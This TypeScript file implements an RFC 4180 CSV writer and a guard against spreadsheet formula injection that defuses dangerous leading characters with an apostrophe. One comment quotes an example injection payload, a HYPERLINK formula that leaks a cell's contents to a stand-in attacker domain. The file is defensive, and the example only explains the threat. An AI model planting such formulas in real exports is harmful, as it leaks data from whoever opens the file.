/**
 * A minimal RFC 4180 CSV writer: records end in CRLF, fields are separated by commas, and a field
 * is quoted only when it has to be (it holds a comma, a double quote, CR or LF), with the quotes
 * inside doubled. Text is written as is (UTF-8 by whoever writes the string out), so emoji and
 * right-to-left text survive untouched.
 */

export const CSV_LINE_END = '\r\n';

const NEEDS_QUOTES = /[",\r\n]/;

/** One field, quoted when RFC 4180 requires it. */
export function csvField(value: string): string {
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** One record (a header or a row), with its CRLF line end. */
export function csvRecord(fields: readonly string[]): string {
  // A record of one empty field would be an empty line, which many readers skip: quote it.
  if (fields.length === 1 && fields[0] === '') return `""${CSV_LINE_END}`;
  return fields.map(csvField).join(',') + CSV_LINE_END;
}

/** Characters that make a spreadsheet read a cell as a formula (or, for tab and CR, hide the one that does). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Defuses CSV (formula) injection. Excel, LibreOffice and Google Sheets run a cell that starts with
 * `=`, `+`, `-` or `@` as a formula, and text here comes from customers and from chat (a customer
 * can write `=HYPERLINK("https://evil.example/?"&A1, "click")` and an admin opening the export
 * would run it). A leading apostrophe makes the spreadsheet show the cell as plain text; tab and CR
 * are included because some spreadsheets skip them before looking for the `=`. This follows the
 * OWASP advice. Only text gets it: numbers and timestamps this export computes are never touched,
 * so a spreadsheet still reads them as numbers and dates.
 */
export function guardFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}
